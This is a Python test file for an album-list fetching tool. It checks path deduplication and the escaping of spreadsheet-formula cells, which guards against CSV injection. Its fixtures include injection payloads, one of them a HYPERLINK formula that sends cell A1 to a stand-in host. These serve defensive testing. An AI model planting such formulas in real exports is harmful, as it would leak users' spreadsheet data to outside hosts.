"""``nopaingan dataset fetch``'s album lists: a list named twice (under any spelling of its path) is read once,
with a note, as an album listed twice is fetched once; a saved list (``--save-list``) has no cell a spreadsheet
reads as a formula (OWASP's CSV injection rule), and reading it back gives every name exactly."""

from __future__ import annotations

import csv
import itertools
import json
import os
from pathlib import Path
from urllib.parse import unquote_plus

import pytest
import test_fetch
from hypothesis import assume, given, reject, settings
from hypothesis import strategies as st
from test_fetch import rows

from training.cleaning import normalise_genres
from training.cli import main
from training.errors import DatasetError
from training.fetch import (
    _MISSING,
    FORMULA_START,
    AlbumRequest,
    cell_text,
    read_album_list,
    spreadsheet_cell,
    write_album_list,
)
from training.inputs import distinct_files, distinct_urls

audio, shop = test_fetch.audio, test_fetch.shop  # the fixtures: previews, and both fake catalogues
ROWS = {"a": "artist,album\nDaft Punk,Discovery\nBjörk,Homogenic\n", "b": "artist,album\nSigur Rós,Takk...\n"}


@pytest.fixture(scope="module")
def spellings(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, str]]:
    """Names of the lists ``a.csv`` and ``b.csv`` (:data:`ROWS`), made in a new folder: spelling -> (the list, its
    name on the command line)."""
    root = tmp_path_factory.mktemp("lists")
    (root / "sub").mkdir()
    for name, text in ROWS.items():
        (root / f"{name}.csv").write_text(text)
    (root / "link.csv").symlink_to(root / "a.csv")  # absolute symbolic link
    (root / "sub" / "up.csv").symlink_to(Path("..", "a.csv"))  # relative one, from another folder
    os.link(root / "b.csv", root / "hard.csv")
    relative = os.path.relpath(root / "a.csv")
    return {
        "absolute": ("a", str(root / "a.csv")),
        "relative": ("a", relative),
        "dot": ("a", os.path.join(".", relative)),
        "dotdot": ("a", str(root / "sub" / ".." / "a.csv")),
        "slashes": ("a", str(root) + "//a.csv"),
        "symlink": ("a", str(root / "link.csv")),
        "symlink in another folder": ("a", str(root / "sub" / "up.csv")),
        "b": ("b", str(root / "b.csv")),
        "hard link to b": ("b", str(root / "hard.csv")),
    }


def _save(names: list[str], saved: Path, *options: str) -> int:
    return main(
        ["dataset", "fetch", *names, "--save-list", str(saved), "--cache-dir", str(saved.parent / "c"), *options]
    )


def _expected(lists: list[str]) -> list[tuple[str, str]]:
    """The albums of ``lists`` (keys of :data:`ROWS`), each list read once, in the order first named."""
    return [tuple(line.split(",")) for name in dict.fromkeys(lists) for line in ROWS[name].splitlines()[1:]]


# spellings of a.csv (keys of spellings)
OF_A = ["absolute", "relative", "dot", "dotdot", "slashes", "symlink", "symlink in another folder"]


@pytest.mark.parametrize(("first", "again"), list(itertools.product(OF_A, repeat=2)))
def test_a_list_named_twice_in_any_spelling_is_read_once_with_a_note(
    tmp_path: Path, spellings, capsys, first: str, again: str
) -> None:
    saved = tmp_path / "saved.csv"
    assert _save([spellings[first][1], spellings[again][1]], saved) == 0
    assert [(a.artist, a.album) for a in read_album_list(saved)] == _expected(["a"])
    assert capsys.readouterr().out.splitlines() == [
        f"note: album list {spellings[first][1]} given again as {spellings[again][1]}: read once",  # as typed
        f"wrote 2 albums to {saved}",
    ]
    assert _save([spellings[first][1], spellings[again][1]], tmp_path / "quiet.csv", "--quiet") == 0
    assert capsys.readouterr().out == f"wrote 2 albums to {tmp_path / 'quiet.csv'}\n"  # no note


@pytest.mark.parametrize(
    ("first", "again"),
    [("a.csv", "./a.csv"), ("./a.csv", "a.csv"), ("~/a.csv", "a.csv"), ("a.csv", "~/./a.csv"), ("a.csv", ".//a.csv")],
)
def test_the_note_names_each_list_as_typed(tmp_path: Path, monkeypatch, capsys, first: str, again: str) -> None:
    """A trial's ``fetch caps.csv ./caps.csv`` said "given again as caps.csv": the note names what was typed
    (``~`` too, which a quoted argument keeps), and ``~`` still reads the home folder's file."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.csv").write_text(ROWS["a"])
    assert _save([first, again], tmp_path / "saved.csv") == 0
    assert capsys.readouterr().out.splitlines()[0] == f"note: album list {first} given again as {again}: read once"
    assert [(a.artist, a.album) for a in read_album_list(tmp_path / "saved.csv")] == _expected(["a"])


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*OF_A, "b", "hard link to b"]), min_size=1, max_size=6))
def test_lists_are_read_once_each_in_the_order_first_named(
    tmp_path_factory: pytest.TempPathFactory, spellings, names: list[str]
) -> None:
    paths = [Path(spellings[name][1]) for name in names]
    kept, repeated = distinct_files(paths)
    lists = [spellings[name][0] for name in names]
    assert [spellings[names[paths.index(p)]][0] for p in kept] == list(dict.fromkeys(lists))
    assert len(repeated) == len(names) - len(kept)
    assert all(first in kept and os.path.samefile(again, first) for again, first in repeated)
    saved = tmp_path_factory.mktemp("saved") / "saved.csv"
    assert _save([str(p) for p in paths], saved, "--quiet") == 0
    assert [(a.artist, a.album) for a in read_album_list(saved)] == _expected(lists)


def test_a_list_named_twice_fetches_each_album_once(tmp_path: Path, shop, capsys) -> None:
    server, fake = shop
    argv, out = test_fetch._quick_fetch(tmp_path, "Daft Punk,Discovery\nBjörk,Homogenic\n")
    apis = ["--deezer-api", fake.deezer_url, "--itunes-api", fake.itunes_url, "--cache-dir", str(tmp_path / "c")]
    assert main([*argv[:3], argv[2], *argv[3:], *apis]) == 0
    assert set(rows(out)) == {"Discovery", "Homogenic"}
    assert not (out / "skipped.jsonl").read_text()  # no duplicates listed


# (name, its cell in a saved list): what would start a formula gets an apostrophe; other names stay as they are
CELLS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://example.org/?"&A1;"x")', '\'=HYPERLINK("http://example.org/?"&A1;"x")'),
    ("+44", "'+44"),
    ("-Ology", "'-Ology"),
    ("-", "'-"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("@", "'@"),
    ("\tTab", "'\tTab"),
    ("\rReturn", "'\rReturn"),
    ("\0nul", "'\0nul"),
    ("'=1+1", "''=1+1"),  # apostrophes before a formula: one more, which reading takes away
    ("''-x", "'''-x"),
    ("'Til Tuesday", "'Til Tuesday"),  # an apostrophe before no formula is the name's own
    ("'74 Jailbreak", "'74 Jailbreak"),
    ("'", "'"),
    ("''", "''"),
    ("' =x", "' =x"),
    ("a=b", "a=b"),
    (" =x", " =x"),  # a space first: no formula
    ("Guns N' Roses", "Guns N' Roses"),
    ("", ""),
    ("÷", "÷"),
    ("+-=@", "'+-=@"),
]


@pytest.mark.parametrize(("name", "cell"), CELLS)
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_gets_an_apostrophe(name: str, cell: str) -> None:
    assert spreadsheet_cell(name) == cell
    assert cell_text(cell) == name


# any text, and texts made of what starts a formula, apostrophes, quotes, separators, spaces and line breaks
PIECES = [*FORMULA_START, "'", '"', "“", ",", ";", "|", " ", "\n", "[", "]", "[1]", "[note 2]", "nan", "x", "7"]
TEXTS = st.text() | st.lists(st.sampled_from(PIECES), max_size=12).map("".join)
# genre cells: genres of letters, spaces, apostrophes and what starts a formula, between separators
GENRES = st.lists(st.text(st.sampled_from([*FORMULA_START, "'", " ", "a", "b"])), max_size=3).map(", ".join)


@settings(max_examples=1000, deadline=None)
@given(TEXTS)
def test_cells_are_never_formulas_and_read_back_exactly(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert cell_text(cell) == text
    assert cell in (text, "'" + text)


def _fields(albums: list[AlbumRequest]) -> list[tuple]:
    """What a fetch takes of each album: names, year, genres as cleaned (quotes around one go), the problem
    without the file that says where."""
    return [
        (a.artist, a.album, a.year, a.year_text, normalise_genres(a.genres), a.problem.split(": ", 1)[-1])
        for a in albums
    ]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS, GENRES), min_size=1, max_size=4))
def test_a_saved_list_reads_back_as_the_names_it_was_written_from(
    tmp_path_factory: pytest.TempPathFactory, albums: list[tuple[str, str, str, str]]
) -> None:
    folder = tmp_path_factory.mktemp("round")
    listed = folder / "albums.json"  # JSON carries any text as it is
    listed.write_text(json.dumps([{"artist": a, "album": b, "year": y, "genre": g} for a, b, y, g in albums]))
    try:
        read = read_album_list(listed)
    except DatasetError:  # a name over two lines: refused as it is listed, never saved
        reject()
    # a lone genre that is a word for "none" in a cell of its own ("tba"): the list's reader reads no genre
    assume(not any(len(r.genres) == 1 and r.genres[0].casefold() in _MISSING for r in read))
    saved = write_album_list(read, folder / "saved.csv")
    with saved.open(newline="") as file:
        assert not [cell for row in csv.reader(file) for cell in row if cell.startswith(FORMULA_START)]
    again = read_album_list(saved)
    assert _fields(again) == _fields(read)


def test_a_saved_list_of_formulas_fetches_the_names_as_listed(tmp_path: Path, shop) -> None:
    server, fake = shop
    listed = [("=1+1", "@SUM(A1)"), ("-Ology", "+44"), ("'Til Tuesday", "'=x"), ("Daft Punk", "Discovery")]
    saved = write_album_list([AlbumRequest(a, b, "x") for a, b in listed], tmp_path / "saved.csv")
    assert saved.read_text().splitlines() == [
        '"artist","album","year","genre"',
        '"\'=1+1","\'@SUM(A1)","",""',
        '"\'-Ology","\'+44","",""',
        '"\'Til Tuesday","\'\'=x","",""',
        '"Daft Punk","Discovery","",""',
    ]
    out = tmp_path / "DATA"
    apis = ["--deezer-api", fake.deezer_url, "--itunes-api", fake.itunes_url, "--cache-dir", str(tmp_path / "c")]
    fast = ["--deezer-rate", "0", "--itunes-rate", "0", "--rate-limit", "0", "--quiet"]
    assert main(["dataset", "fetch", str(saved), "--out", str(out), *apis, *fast]) == 0
    assert set(rows(out)) == {"Discovery"}
    left_out = [json.loads(line) for line in (out / "skipped.jsonl").read_text().splitlines()]
    assert {(r["artist"], r["album"]) for r in left_out} == set(listed[:3])  # the names as listed, searched for
    searched = unquote_plus(" ".join(path for path, _ in server.requests if "/search" in path))
    assert all(f"{artist} {album}" in searched for artist, album in listed[:3]) and "''=x" not in searched


PAGES = ["https://en.wikipedia.org/wiki/List_of_2019_albums", "https://en.wikipedia.org/wiki/List_of_2020_albums"]


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(PAGES), st.sampled_from(["", "#January", "#Notes"]), st.booleans()),
        min_size=1,
        max_size=6,
    )
)
def test_a_page_named_twice_is_read_once_whatever_its_section_or_host_case(named) -> None:
    urls = [
        (page.replace("en.wikipedia.org", "EN.Wikipedia.ORG") if upper else page) + part for page, part, upper in named
    ]
    kept, repeated = distinct_urls(urls)
    assert len(kept) == len({page for page, _, _ in named}) and len(kept) + len(repeated) == len(urls)
    assert [url.lower().split("#")[0] for url in kept] == list(dict.fromkeys(page.lower() for page, _, _ in named))
    assert all(again.lower().split("#")[0] == first.lower().split("#")[0] for again, first in repeated)
    assert distinct_urls([PAGES[0], PAGES[0] + "?oldid=1"])[1] == []  # another revision is another page
